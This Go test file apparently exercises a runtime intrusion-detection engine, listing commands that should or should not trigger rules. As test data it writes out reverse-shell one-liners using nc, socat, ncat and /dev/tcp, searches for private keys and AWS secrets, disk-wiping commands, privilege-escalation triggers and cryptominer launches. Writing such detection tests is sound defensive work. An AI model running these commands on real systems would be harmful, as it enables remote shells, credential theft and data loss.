package live

// Companions of many steps.
var (
	toolInside = companion{"Launch Suspicious Network Tool in Container", "it is one"}
	toolOnHost = companion{"Launch Suspicious Network Tool on Host", "it is one"}
	shellBelow = companion{"Run shell untrusted", "a server starts it"}
	shellOfWeb = companion{"Web Server Spawned Shell", "a web server starts it"}
)

// execEntries are the rules about programs started anywhere.
func execEntries(*upstreamStage) []entry {
	return []entry{
		{behaviour{
			rule: shellBelow.rule,
			raises: []step{
				acts("$A/actor run $A/actor run $A/actor run $A/actor run $A/redis-server run /bin/sh -c 'exit 0'"),
				actsInside("$A/redis-server run /bin/sh -c 'exit 0'"),
			},
			misses: []step{
				acts("$A/redis-server run $A/true"), acts("$A/actor run /bin/sh -c 'exit 0'"), acts("$A/redis-server run /bin/sh -c 'kill -0 $$'"),
			},
		}, map[string]string{
			"proc.pname": "redis-server", "proc.pexe": actorDir + "/redis-server", "proc.pexepath": actorDir + "/redis-server",
			"proc.aname[2]": "actor", "proc.aname[5]": "actor", "proc.aname[6]": "sh", "proc.aname[7]": "live.test", "evt.arg.flags": "~EXE_WRITABLE",
			"proc.pcmdline": "redis-server run /bin/sh -c exit 0",
		}},
		{behaviour{
			rule:   "System user interactive",
			raises: []step{acts("$A/sshd as 65534 $A/actor"), acts("$A/sshd as 65534 $A/actor run $A/true", companion{"System user interactive", "two programs are started"})},
			misses: []step{acts("$A/sshd as 0 $A/actor"), acts("$A/sshd as 4242 $A/actor")},
		}, map[string]string{"user.name": "nobody", "user.uid": "65534", "proc.pname": "sshd"}},
		{behaviour{
			rule:   "Search Private Keys or Passwords",
			raises: []step{acts("find /mnt/token -name id_rsa"), acts("grep -r 'BEGIN RSA PRIVATE' /mnt/token").ending(1), actsInside("/bin/find /tmp -name 'id_ed25519*'")},
			misses: []step{acts("find /mnt/token -name id_x"), acts("grep -r 'BEGIN CERTIFICATE' /mnt/token").ending(1)},
		}, map[string]string{"proc.cmdline": "find /mnt/token -name id_rsa"}},
		{behaviour{
			rule:   "Remove Bulk Data from Disk",
			raises: []step{acts("$A/shred /mnt/plain"), actsInside("$A/mkfs /dev/sdz")},
			misses: []step{acts("rm -f /mnt/not-there"), acts("ls $A/shred")},
		}, map[string]string{"proc.exepath": actorDir + "/shred", "evt.arg.flags": "~EXE_WRITABLE"}},
		{behaviour{
			rule: "Find AWS Credentials",
			raises: []step{
				acts("cd /mnt; $A/actor login 0 /usr/bin/grep -r aws_secret_access_key /mnt/token").ending(1),
				acts("find /mnt/token -path .aws/credentials"),
			},
			misses: []step{acts("grep -r aws /mnt/token").ending(1), acts("find /mnt/token -name credentials")},
		}, map[string]string{"proc.cwd": "/mnt/", "user.loginname": "root", "user.loginuid": "0", "group.name": "root", "group.gid": "0"}},
		{behaviour{
			rule:   "Fileless execution via memfd_create",
			raises: []step{acts("setsid -w $A/actor memfd $A/true"), actsInside("$A/actor memfd $A/true")},
			misses: []step{acts("$A/true"), acts("$A/actor login 0 $A/true")},
		}, map[string]string{"evt.res": "SUCCESS", "proc.exepath": "memfd:tool", "proc.sname": "~^[a-z0-9]+$", "proc.cwd": "~^/", "proc.aname[2]": "live.test"}},
		{behaviour{
			rule:   "DB program spawned process",
			raises: []step{acts("$A/mysqld run $A/true"), actsInside("$A/postgres run $A/true")},
			misses: []step{acts("$A/mysqld run $A/postgres"), acts("$A/actor run $A/mysqld")},
		}, map[string]string{"proc.name": "true", "proc.pname": "mysqld"}},
		{behaviour{
			rule:   "Program run with disallowed http proxy env",
			raises: []step{acts("HTTP_PROXY=http://192.0.2.1 $A/curl"), acts("https_proxy=x http_proxy=y $A/wget")},
			misses: []step{acts("$A/curl"), acts("HTTP_PROXY=http://192.0.2.1 $A/actor"), acts("PROXY=x $A/curl")},
		}, map[string]string{"proc.env": "~HTTP_PROXY=http://192.0.2.1"}},
		{behaviour{
			rule:   "User mgmt binaries",
			raises: []step{acts("$A/groupadd crew"), acts("$A/passwd")},
			misses: []step{acts("$A/passwd -S root"), actsInside("$A/groupadd crew")},
		}, map[string]string{"proc.cmdline": "groupadd crew", "proc.aname[2]": "live.test"}},
		{behaviour{
			rule:   toolOnHost.rule,
			raises: []step{acts("$A/nmap -sS 192.0.2.1"), acts("$A/nc")},
			misses: []step{actsInside("$A/nmap -sS 192.0.2.1", toolInside), acts("ls $A/nmap")},
		}, map[string]string{"proc.cmdline": "nmap -sS 192.0.2.1"}},
		{behaviour{
			rule:   "Potential Local Privilege Escalation via Environment Variables Misuse",
			raises: []step{acts("GLIBC_TUNABLES=glibc.malloc.mxfast=x $A/true"), actsInside("GLIBC_TUNABLES=x $A/true")},
			misses: []step{acts("TUNABLES=x $A/true"), acts("$A/true GLIBC_TUNABLES=x")},
		}, map[string]string{"proc.env": "~GLIBC_TUNABLES=glibc.malloc.mxfast=x"}},
		{behaviour{
			rule:   "Detect crypto miners using the Stratum protocol",
			raises: []step{acts("$A/actor -o stratum+tcp://pool.invalid:3333"), actsInside("$A/actor stratum2+ssl://pool.invalid:3333")},
			misses: []step{acts("$A/actor -o tcp://pool.invalid:3333"), acts("echo stratum+tcp")},
		}, map[string]string{"proc.cmdline": "actor -o stratum+tcp://pool.invalid:3333"}},
		{behaviour{
			rule:   "Sudo Potential Privilege Escalation",
			raises: []step{acts(`$A/sudoedit -s 'x\'`), acts(`$A/sudo -i 'a\ b'`)},
			misses: []step{acts("$A/sudoedit -s x"), acts(`$A/actor login 0 $A/sudoedit -s 'x\'`), acts(`$A/sudoedit 'x\'`)},
		}, map[string]string{"proc.cmdline": `sudoedit -s x\`, "user.loginuid": "-1"}},
		{behaviour{
			rule:   "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)",
			raises: []step{acts("$A/pkexec")},
			misses: []step{acts("$A/pkexec --version"), acts("$A/actor login 0 $A/pkexec")},
		}, map[string]string{"proc.args": "", "proc.cmdline": "pkexec"}},
		{behaviour{
			rule:   "Basic Interactive Reconnaissance",
			raises: []step{onTerminal("exec " + actorDir + "/id"), onTerminal("exec " + actorDir + "/uname -a")},
			misses: []step{onTerminal(actorDir + "/id; true") /* not directly typed */, acts("setsid -w $A/id"), onTerminal("exec " + actorDir + "/true")},
		}, map[string]string{"proc.name": "id", "proc.tty": "~^[1-9]"}},
		{behaviour{
			rule: "Netcat/Socat Remote Code Execution on Host",
			raises: []step{
				acts("$A/socat TCP:192.0.2.1:80 EXEC:sh", toolOnHost), acts("$A/nc -e /bin/sh 192.0.2.1 80", toolOnHost),
				acts("$A/ncat --sh-exec /bin/sh 192.0.2.1 80", toolOnHost),
			},
			misses: []step{acts("$A/nc 192.0.2.1 80", toolOnHost), acts("$A/actor EXEC:sh"), actsInside("$A/socat EXEC:sh", toolInside)},
		}, map[string]string{"proc.cmdline": "socat TCP:192.0.2.1:80 EXEC:sh"}},
		{behaviour{
			rule: "Known Cryptominer Process Executed",
			raises: []step{
				acts("$A/xmrig"), acts("$A/actor execveat $A/xmrig"), actsInside("$A/xmrig --version"),
				// Its own start, and what it failed to start.
				acts("$A/xmrig execveat $A/not-there", companion{"Known Cryptominer Process Executed", "it tries to become something else"}).ending(1),
			},
			misses: []step{acts("$A/wget xmrig"), acts("ls $A/xmrig")},
		}, map[string]string{"proc.exepath": actorDir + "/xmrig"}},
	}
}

// webEntries are the rules about what web servers start.
func webEntries(*upstreamStage) []entry {
	return []entry{
		{behaviour{
			rule: shellOfWeb.rule,
			raises: []step{
				acts("$A/nginx run /bin/sh -c 'exit 0'", shellBelow),
				acts("$A/httpd run $A/actor run /bin/sh -c 'exit 0'", shellBelow),
			},
			misses: []step{acts("$A/redis-server run /bin/sh -c 'exit 0'", shellBelow), acts("$A/nginx run $A/true"), acts("$A/nginx run /bin/sh -c : healthcheck", shellBelow)},
		}, map[string]string{"proc.name": "sh", "proc.pname": "nginx", "proc.aname[2]": "sh", "proc.aname[3]": "live.test"}},
		{behaviour{
			rule:   "Web Server Spawned Suspicious Child Process",
			raises: []step{acts("$A/nginx run $A/curl http://192.0.2.10"), actsInside("$A/nginx run $A/python3 x.py")},
			misses: []step{acts("$A/nginx run $A/actor"), acts("$A/actor run $A/curl"), acts("$A/nginx run $A/curl status")},
		}, map[string]string{"proc.name": "curl", "proc.pname": "nginx", "proc.aname[2]": "sh"}},
		{behaviour{
			rule: "Reverse Shell from Web Server",
			raises: []step{
				acts("$A/nginx run $A/actor mkfifo /tmp/f"),
				acts("$A/nginx run /bin/sh -c ': /dev/tcp/192.0.2.1/80'", shellBelow, shellOfWeb),
			},
			misses: []step{acts("$A/nginx run $A/actor mkfifo /run/f"), acts("$A/actor run $A/actor mkfifo /tmp/f")},
		}, map[string]string{"proc.pname": "nginx", "proc.cmdline": "actor mkfifo /tmp/f"}},
	}
}
